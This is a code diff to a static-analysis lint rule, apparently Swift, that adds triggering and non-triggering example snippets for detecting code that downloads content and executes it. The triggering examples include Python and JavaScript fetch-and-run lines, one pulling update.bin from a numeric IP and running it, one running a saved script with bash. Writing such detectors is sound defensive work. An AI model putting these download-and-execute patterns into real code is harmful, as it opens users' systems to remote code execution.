@@ -8,11 +8,23 @@ extension CodeDownloadExecuteRule {
     Example("const res = await fetch(url);\nconst body = await res.text();\n↓new Function(body)();\n", language: .javascript),
     Example("const mod = await ↓import('https://cdn.example.net/mod.js');\n", language: .javascript),
     Example("import urllib.request, runpy\nurllib.request.urlretrieve(URL, '/tmp/helper.py')\n↓runpy.run_path('/tmp/helper.py')\n", language: .python),
+    Example(
+      "import os, subprocess, requests\nname = 'update.bin'\nr = requests.get('http://203.0.113.7:8013/update.bin')\nwith open(name, 'wb') as f:\n    f.write(r.content)\nos.chmod(name, 0o755)\n↓subprocess.run(['./' + name])\n",
+      language: .python, note: "a download written to a file, made executable and run"),
+    Example(
+      "const body = await (await fetch(URL)).text();\nfs.writeFileSync('/tmp/setup.sh', body);\n↓child_process.execFileSync('bash', ['/tmp/setup.sh']);\n",
+      language: .javascript, note: "an interpreter given the saved download"),
   ]
 
   static let nonTriggering: [Example] = [
     Example("import requests\ndata = requests.get(API).json()\nprint(data['items'])\n", language: .python, note: "fetched data is used as data"),
     Example("const res = await fetch(url);\nconst json = await res.json();\nrender(json);\n", language: .javascript, note: "no exec sink"),
     Example("code = open('local_plugin.py').read()\nexec(code)\n", language: .python, note: "executes a bundled file, nothing downloaded"),
+    Example(
+      "import requests, subprocess\ndata = requests.get(API).content\nwith open('out.json', 'wb') as f:\n    f.write(data)\nsubprocess.run(['jq', '.', 'out.json'])\n",
+      language: .python, note: "the download is a tool's input, not the program"),
+    Example(
+      "const audio = await (await fetch(TTS_URL)).arrayBuffer();\nfs.writeFileSync(audioPath, Buffer.from(audio));\nexecSync(`ffmpeg -i \"${audioPath}\" -y out.mp3`);\n",
+      language: .javascript, note: "a template that mentions the saved file as an argument"),
   ]
 }
